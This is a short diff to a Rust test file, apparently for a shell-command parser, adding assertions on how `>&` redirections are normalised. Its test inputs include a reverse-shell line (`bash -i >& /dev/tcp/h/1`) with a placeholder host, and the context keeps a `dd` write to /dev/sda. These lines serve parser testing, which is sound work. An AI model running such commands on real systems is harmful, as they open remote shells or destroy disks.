@@ -82,6 +82,15 @@ fn redirections_are_kept_apart_from_arguments() {
         ]
     );
     assert_eq!(texts("dd if=x >\"/dev/sda\""), ["dd if=x > /dev/sda"]);
+    // `>&word` (and `1>&word`) with a word that is no descriptor writes the file, as bash
+    // does; descriptors (`>&2`, `>&-`, `>&3-`) are not files.
+    assert_eq!(
+        texts("bash -i >& /dev/tcp/h/1 0>&1"),
+        ["bash -i > /dev/tcp/h/1"]
+    );
+    assert_eq!(texts("echo x 1>& f"), ["echo x > f"]);
+    assert_eq!(texts("f=log; make >& $f"), ["make > log"]);
+    assert_eq!(texts("cmd >&2 2>&- 3>&1-"), ["cmd"]);
 }
 
 #[test]
